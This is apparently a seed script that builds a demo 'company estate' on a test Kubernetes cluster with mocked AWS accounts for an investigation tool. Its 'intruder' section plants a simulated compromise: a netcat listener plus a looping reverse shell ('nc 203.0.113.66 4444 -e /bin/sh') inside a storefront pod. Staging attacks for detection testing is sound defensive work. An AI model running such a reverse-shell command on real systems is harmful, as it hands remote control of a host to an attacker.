# seed.sh WORK: creates the demo estate's company and its intruder on running beds (with the environment of `beds up
# cluster moto`).
#
# Leaves two files in WORK: `live`, which runs a program that sees the entire estate, and `pids`, the processes that
# outlive this script.
set -euo pipefail
WORK=$(realpath "$1")
HERE=$(dirname "$(realpath "$0")")
BEDS=${INDAGO_BEDS:-${XDG_CACHE_HOME:-$HOME/.cache}/indago/beds}
PYTHON=$BEDS/moto/bin/python
mkdir -p "$WORK/srv/git"
say() { printf 'demo-estate: %s\n' "$*" >&2; }
# inside PROGRAM ...: runs a program within the node's namespaces
inside() { nsenter -t "$INDAGO_CLUSTER_PID" -n -m -C "$@"; }
# until_ok SECONDS PROGRAM ...: retries a program until it succeeds
until_ok() {
    local end=$((SECONDS + $1)); shift
    until "$@" > /dev/null 2>&1; do
        [ $SECONDS -lt $end ] || { say "gave up on: $*"; exit 1; }
        sleep 0.5
    done
}

say 'repositories and images'
(cd "$WORK/srv/git" && rm -rf storefront platform && bash "$HERE/repositories.sh") > "$WORK/commits"
# shellcheck disable=SC2046
export $(cat "$WORK/commits")
"$PYTHON" "$HERE/images.py" "$BEDS/busybox.tar" "$WORK/images.tar"
inside ctr -n k8s.io images import "$WORK/images.tar" > /dev/null

say 'accounts'
# The default profile's key gives access to each account.
"$PYTHON" "$HERE/aws.py" > "$WORK/machine"
# shellcheck disable=SC2046
export $(cat "$WORK/machine")

say 'cluster'
# The bed's own objects do not belong to the company.
kubectl delete --ignore-not-found --wait=false pod/priv deployment/web service/web serviceaccount/deployer secret/web configmap/web role/bed-tenant rolebinding/bed-tenant -n shop > /dev/null
kubectl delete --ignore-not-found clusterrole/bed-viewer clusterrole/bed-auditor clusterrolebinding/bed-viewers clusterrolebinding/bed-auditors clusterrolebinding/deployer-is-admin > /dev/null
node=$(kubectl get nodes -o 'jsonpath={.items[0].metadata.name}')
kubectl patch node "$node" -p "{\"spec\":{\"providerID\":\"aws:///$ZONE/$INSTANCE\"}}" > /dev/null
kubectl label --overwrite node "$node" node.kubernetes.io/instance-type=m6i.xlarge topology.kubernetes.io/region=us-east-1 "topology.kubernetes.io/zone=$ZONE" > /dev/null
"$PYTHON" "$HERE/workloads.py" | kubectl apply --server-side -f - > /dev/null
only_ready() { [ -z "$(kubectl get pods -A --no-headers | awk '{split($3, n, "/"); if ($4 != "Running" || n[1] != n[2]) print}')" ] && [ "$(kubectl get pods -A --no-headers | wc -l)" -ge 13 ]; }
until_ok 180 only_ready

say 'the intruder'
pod=$(kubectl get pods -n shop -l app=storefront -o 'jsonpath={.items[0].metadata.name}')
container=$(kubectl get pod -n shop "$pod" -o 'jsonpath={.status.containerStatuses[0].containerID}')
# The bed's pods have no route to the outside. This one gets a route to the intruder's end, which is not part of the
# estate.
inside ip addr add 203.0.113.66/32 dev lo
first=$(inside ctr -n k8s.io tasks ls | awk -v id="${container#containerd://}" '$1 == id {print $2}')
nsenter -t "$first" -n ip route add 203.0.113.66 via 10.77.0.1
nsenter -t "$INDAGO_CLUSTER_PID" -n busybox nc -ll -p 4444 -e /bin/cat < /dev/null > /dev/null 2>&1 &
echo $! > "$WORK/pids"
kubectl exec -n shop "$pod" -- /bin/sh -c 'while true; do nc 203.0.113.66 4444 -e /bin/sh; sleep 30; done' < /dev/null > /dev/null 2>&1 &
echo $! >> "$WORK/pids"
shell_up() { kubectl exec -n shop "$pod" -- /bin/netstat -tn | grep -q '203.0.113.66:4444.*ESTABLISHED'; }
until_ok 30 shell_up

say 'configuration'
kubeconfig() { kubectl --kubeconfig "$1" config view --raw -o json | "$PYTHON" -c '
import json, sys
config = json.load(sys.stdin)
cluster, user = config["clusters"][0], config["users"][0]
cluster["name"], user["name"] = "acme-prod", "auditor"
config["contexts"] = [{"name": "acme-prod", "context": {"cluster": "acme-prod", "user": "auditor"}}]
config["current-context"] = "acme-prod"
json.dump(config, sys.stdout)'; }
kubeconfig "$KUBECONFIG" > "$WORK/outside.conf"
kubeconfig "$(dirname "$(dirname "$KUBECONFIG")")/admin.conf" > "$WORK/inside.conf"
cat > "$WORK/aws" <<C
[profile prod]
region = us-east-1
endpoint_url = $AWS_ENDPOINT_URL
role_arn = arn:aws:iam::222222222222:role/indago
source_profile = default
[profile staging]
region = us-east-1
endpoint_url = $AWS_ENDPOINT_URL
role_arn = arn:aws:iam::333333333333:role/indago
source_profile = default
C
cat > "$WORK/all.toml" <<C
[kubernetes]
kubeconfig = "$WORK/outside.conf"
[containers]
sockets = ["$CONTAINERD_ADDRESS"]
[aws]
profiles = ["prod", "staging"]
[git]
roots = ["/srv/git"]
C
cat > "$WORK/inside.toml" <<C
[kubernetes]
kubeconfig = "$WORK/inside.conf"
[containers]
sockets = ["/run/containerd/containerd.sock"]
C
# live PROGRAM ...: runs a program on a machine that sees the entire estate. Repositories are under /srv on this
# company's machines.
cat > "$WORK/live" <<L
#!/bin/sh
unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY
export AWS_CONFIG_FILE='$WORK/aws' INDAGO_CONFIG='$WORK/all.toml'
exec unshare -m sh -c 'mount --bind "\$0/srv" /srv && cd / && exec "\$@"' '$WORK' "\$@"
L
chmod +x "$WORK/live"
